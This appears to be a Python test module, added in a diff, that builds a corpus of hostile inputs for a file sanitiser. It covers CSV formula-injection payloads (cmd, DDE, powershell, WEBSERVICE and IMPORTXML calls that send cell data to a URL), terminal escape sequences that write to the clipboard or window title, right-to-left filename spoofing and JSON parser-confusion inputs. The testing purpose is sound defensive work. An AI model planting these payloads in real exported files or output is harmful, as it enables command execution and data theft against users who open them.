@@ -1,0 +1,160 @@
+"""Tables that compute, texts that steer a terminal or hide, JSON that readers disagree about."""
+
+import csv
+import io
+import json
+import unicodedata
+from collections.abc import Callable, Iterator
+
+from .common import MARKER, URL, VISIBLE, Attack
+
+# -- tables: the words of a formula may stay as words, it must not be one ------------------------------------------------
+
+_FORMULAS = {
+    "command": f"=cmd|'/C {MARKER}'!A0",
+    "plus": f"+cmd|'/C {MARKER}'!A0",
+    "minus": f"-2+3+cmd|'/C {MARKER}'!A0",
+    "at": f"@SUM(cmd|'/C {MARKER}'!A0)",
+    "tab first": f"\t=cmd|'/C {MARKER}'!A0",
+    "return first": f"\r=cmd|'/C {MARKER}'!A0",
+    "line feed first": f"\n=cmd|'/C {MARKER}'!A0",
+    "blank first": f" =cmd|'/C {MARKER}'!A0",
+    "no-break blank first": f"\u00a0=cmd|'/C {MARKER}'!A0",
+    "wide blank first": f"\u3000=cmd|'/C {MARKER}'!A0",
+    "zero-width blank first": f"\u200b=cmd|'/C {MARKER}'!A0",
+    "byte order mark first": f"\ufeff=cmd|'/C {MARKER}'!A0",
+    "word joiner first": f"\u2060+cmd|'/C {MARKER}'!A0",
+    "wide equals": f"＝cmd|'/C {MARKER}'!A0",
+    "wide plus": f"＋cmd|'/C {MARKER}'!A0",
+    "wide minus": f"－cmd|'/C {MARKER}'!A0",
+    "wide at": f"＠SUM(cmd|'/C {MARKER}'!A0)",
+    "small equals": f"﹦cmd|'/C {MARKER}'!A0",
+    "small plus": f"﹢cmd|'/C {MARKER}'!A0",
+    "small at": f"﹫SUM(cmd|'/C {MARKER}'!A0)",
+    "dde function": f'=DDE("cmd";"/C {MARKER}";"a")',
+    "powershell": f"=MSEXCEL|'\\..\\..\\powershell {MARKER}'!''",
+    "hyperlink": f'=HYPERLINK("{URL}?x="&A1;"click")',
+    "web service": f'=WEBSERVICE("{URL}")',
+    "import": f'=IMPORTXML(CONCAT("{URL}?",A1),"//a")',
+    "picture": f'=IMAGE("{URL}")',
+    "external cell": f"='\\\\127.0.0.1\\[{MARKER}.xlsx]A'!A1",
+    "quoted formula": f"=\"a\"&cmd|'/C {MARKER}'!A0",
+    "number then formula": f"-1+1|'{MARKER}'!A0",
+    "semicolon inside": f"words;=cmd|'/C {MARKER}'!A0",
+    "tab inside": f"words\t=cmd|'/C {MARKER}'!A0",
+    "line inside": f"words\n=cmd|'/C {MARKER}'!A0",
+    "comma inside": f"words,@SUM({MARKER})",
+    "control character first": f"\x01=cmd|'/C {MARKER}'!A0",
+    "direction mark first": f"\u202e=cmd|'/C {MARKER}'!A0",
+}
+
+
+def runs_nothing(output: bytes) -> bool:
+    """No cell, under any delimiter, begins as a formula once blanks are gone; the visible words are there."""
+    text = output.decode("utf-8-sig")
+    if text.lower().lstrip('"').startswith("sep="):
+        return False
+    for delimiter in ",;\t":
+        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
+            for cell in row:
+                bare = "".join(c for c in cell if unicodedata.category(c)[0] not in "ZC")
+                start = unicodedata.normalize("NFKC", bare)[:1]
+                if start and start in "=+-@" and not bare.strip("-0123456789;,") == "":
+                    return False
+    return VISIBLE in text
+
+
+def table(cell: str, *, delimiter: str = ",") -> bytes:
+    out = io.StringIO(newline="")
+    csv.writer(out, delimiter=delimiter).writerows([["名前", "値"], [VISIBLE, cell], ["-12", "3"]])
+    return out.getvalue().encode()
+
+
+_TABLES: dict[str, tuple[str, Callable[[], bytes]]] = {
+    "semicolon table": ("csv", lambda: table(f"=cmd|'{MARKER}'!A0", delimiter=";")),
+    "tab table": ("tsv", lambda: table(f"=cmd|'{MARKER}'!A0", delimiter="\t")),
+    "separator line": ("csv", lambda: f"sep=|\r\n{VISIBLE}|=cmd('{MARKER}')\r\n".encode()),
+    "quoted separator line": ("csv", lambda: f'"sep=|"\r\n{VISIBLE}|=cmd(\'{MARKER}\')\r\n'.encode()),
+    "separator line in capitals": ("csv", lambda: f"SEP=^\r\n{VISIBLE}^@SUM('{MARKER}')\r\n".encode()),
+    "symbolic link file": ("csv", lambda: f"ID;P{VISIBLE}\r\nO;E\r\nC;X1;Y1;EEXEC(\"{MARKER}\")\r\nE\r\n".encode()),
+    "utf-16": ("csv", lambda: f"{VISIBLE},=cmd|'{MARKER}'!A0\r\n".encode("utf-16")),
+    "utf-16 big end": ("csv", lambda: b"\xfe\xff" + f"{VISIBLE},=cmd|'{MARKER}'!A0\r\n".encode("utf-16-be")),
+    "code page 932": ("csv", lambda: f"{VISIBLE},＝cmd|'{MARKER}'!A0\r\n".encode("cp932")),
+    "utf-7": ("csv", lambda: f"{VISIBLE},+AD0-cmd|'{MARKER}'!A0\r\n".encode()),
+    "open quote": ("csv", lambda: f'{VISIBLE},"=cmd|\'{MARKER}\'!A0\r\n'.encode()),
+    "quote in the middle": ("csv", lambda: f'{VISIBLE},a"b,"=cmd|\'{MARKER}\'!A0"\r\n'.encode()),
+    "only returns": ("csv", lambda: f"{VISIBLE},1\r=cmd|'{MARKER}'!A0,2\r".encode()),
+    "next line character": ("csv", lambda: f"{VISIBLE},1\u0085=cmd|'{MARKER}'!A0\r\n".encode()),
+    "line separator": ("csv", lambda: f"{VISIBLE},1\u2028=cmd|'{MARKER}'!A0\r\n".encode()),
+}  # fmt: skip
+
+# -- texts ------------------------------------------------------------------------------------------------------------
+
+_ESC = "\x1b"
+_HIDDEN = "".join(chr(0xE0000 + ord(c)) for c in "MARKER")
+_TEXTS = {
+    "colour": (f"{_ESC}[31m", _ESC),
+    "clear the screen": (f"{_ESC}[2J{_ESC}[H", _ESC),
+    "window title": (f"{_ESC}]0;{MARKER}\x07", MARKER),
+    "clipboard": (f"{_ESC}]52;c;{MARKER}{_ESC}\\", MARKER),
+    "terminal link": (f"{_ESC}]8;;{URL}{_ESC}\\click{_ESC}]8;;{_ESC}\\", MARKER),
+    "device control": (f"{_ESC}P$q{MARKER}{_ESC}\\", _ESC),
+    "eight-bit control": (f"\x9b31m\x9d0;{MARKER}\x9c", "\x9b"),
+    "answer back": ("\x05", "\x05"),
+    "backspaces": ("rm -rf\x08\x08\x08", "\x08"),
+    "zero bytes": ("a\0b", "\0"),
+    "right to left": ("\u202egpj.exe", "\u202e"),
+    "isolates": ("\u2066a\u2069", "\u2066"),
+    "arabic mark": ("\u061c", "\u061c"),
+    "tag characters": (_HIDDEN, _HIDDEN),
+    "line separators": ("a\u2028b\u2029", "\u2028"),
+    "escape in vertical tab": ("a\x0bb\x0c", "\x0b"),
+    "shift out": ("\x0e\x0f", "\x0e"),
+    "delete": ("a\x7f", "\x7f"),
+}
+
+_DOCUMENTS = {
+    "json with two keys": (f'{{"a": "{MARKER}", "a": "{VISIBLE}"}}', False),
+    "json with controls": (f'{{"a": "{VISIBLE}\u202e"}}', False),
+    "json and more": (f'{{"a": "{VISIBLE}"}} {MARKER}', True),
+    "json with a prefix": (f')]}}\',\n{{"a": "{MARKER}"}}', True),
+    "json with a comment": (f'{{"a": 1 /* {MARKER} */}}', True),
+    "json that calls": (f'callback({{"a": "{MARKER}"}})', True),
+    "json too deep": ("[" * 100_000 + "]" * 100_000, True),
+    "json with escapes": (json.dumps({"a": VISIBLE}), False),
+}
+
+
+def _shows_json(output: bytes) -> bool:
+    return VISIBLE in str(json.loads(output))
+
+
+def _attacks() -> Iterator[Attack]:
+    for name, formula in _FORMULAS.items():
+        yield Attack(
+            f"csv {name}", lambda formula=formula: table(formula), "csv", gone=(), shows=runs_nothing
+        )
+    for name, (extension, build) in _TABLES.items():
+        yield Attack(f"csv {name}", build, extension, gone=(), shows=runs_nothing)
+    for name, (inside, gone) in _TEXTS.items():
+        yield Attack(
+            f"txt {name}", lambda inside=inside: f"{VISIBLE}\n{inside}\nend\n".encode(), "txt", gone=(gone,)
+        )
+    yield Attack("txt in utf-16", lambda: f"{VISIBLE}{_ESC}]0;{MARKER}\x07".encode("utf-16"), "txt")
+    yield Attack(
+        "txt in iso-2022-jp",
+        lambda: (VISIBLE + "\u3000").encode("iso2022_jp") + b"\x1b]0;" + MARKER.encode() + b"\x07",
+        "txt",
+    )
+    for name, (text, refused) in _DOCUMENTS.items():
+        yield Attack(
+            name,
+            lambda text=text: text.encode(),
+            "json",
+            gone=(MARKER, "\u202e"),
+            refused=refused,
+            shows=_shows_json,
+        )
+
+
+ATTACKS = tuple(_attacks())
